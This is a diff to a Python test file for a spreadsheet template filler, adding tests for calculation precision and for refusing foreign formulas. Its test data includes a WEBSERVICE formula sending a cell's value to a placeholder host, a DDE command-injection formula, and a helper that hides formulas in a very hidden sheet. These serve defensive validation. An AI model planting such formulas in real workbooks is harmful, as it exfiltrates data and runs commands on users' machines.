@@ -2,6 +2,7 @@
 
 from collections.abc import Callable, Mapping
 from dataclasses import replace
+from decimal import Decimal
 from functools import cache
 from io import BytesIO
 from pathlib import Path
@@ -70,6 +71,13 @@ def with_parts(
     return content.getvalue()
 
 
+def beside(book: Any, formula: str) -> None:
+    """Add a sheet that nobody sees with a formula."""
+    sheet = book.create_sheet("Lain")
+    sheet.sheet_state = "veryHidden"
+    sheet["A1"] = formula
+
+
 def refused(content: bytes, limits: Limits | None = None) -> list[tuple[str, str, str]]:
     with pytest.raises(WorkbookRefusedError) as refusal:
         fill_template(exported(unit=FILLED), Layer.UNIT, content, limits or Limits())
@@ -84,6 +92,19 @@ def test_a_template_is_filled_and_read_back() -> None:
     sheet = load_workbook(BytesIO(content))[SHEET]
     assert (sheet["O8"].value, sheet["O8"].data_type) == ('=HYPERLINK("x")', "s")
     assert sheet["Q8"].hyperlink.target == "https://contoh.example/sk"
+
+
+def test_a_template_that_computes_with_what_it_shows_computes_with_all_digits_again() -> None:
+    given = with_parts({}, {"xl/workbook.xml": (b"<calcPr ", b'<calcPr fullPrecision="0" ')})
+    content = fill_template(exported(unit=FILLED), Layer.UNIT, given, Limits())
+    assert load_workbook(BytesIO(content)).calculation.fullPrecision is not False
+    assert b'fullPrecision="0"' not in ZipFile(BytesIO(content)).read("xl/workbook.xml")
+
+
+def test_an_index_of_more_digits_than_excel_keeps_comes_back_as_it_was() -> None:
+    long = {"B.I.a": Answer(index=Decimal("3.5999999999999999999"))}
+    content = fill_template(exported(unit=Filled(long, {}, {})), Layer.UNIT, own(), Limits())
+    assert dict(read_workbook(content).answers) == long
 
 
 def test_the_same_template_and_state_give_the_same_bytes() -> None:
@@ -116,6 +137,11 @@ def test_nothing_of_who_filled_the_template_before_stays() -> None:
         (lambda: cell("B500", "ingat"), [("too_many_rows", SHEET, "B500")]),
         (lambda: changed(lambda book: book[SHEET].merge_cells("K8:K9")), [("merged_cell", SHEET, "K9")]),
         (lambda: changed(lambda book: setattr(book[SHEET], "title", "Lain")), [("sheet_missing", "", "")]),
+        (lambda: cell("R10", '=WEBSERVICE("http://x.test/"&K10)'), [("formula_foreign", SHEET, "R10")]),
+        (lambda: cell("M10", "=K10"), [("formula_foreign", SHEET, "M10")]),
+        (lambda: cell("Q8", '=HYPERLINK("https://x.test")'), None),
+        (lambda: changed(lambda book: beside(book, "=cmd|' /C x'!A0")), [("formula_foreign", "Lain", "A1")]),
+        (lambda: changed(lambda book: beside(book, "=SUM(B1:B3)")), None),
     ],
     ids=[
         "free",
@@ -131,6 +157,11 @@ def test_nothing_of_who_filled_the_template_before_stays() -> None:
         "rows",
         "merged",
         "sheet",
+        "asks others",
+        "share",
+        "overwritten link",
+        "dde",
+        "sum beside",
     ],
 )
 def test_another_layout_is_refused_by_its_cell(content: Callable[[], bytes], expected: Any) -> None:
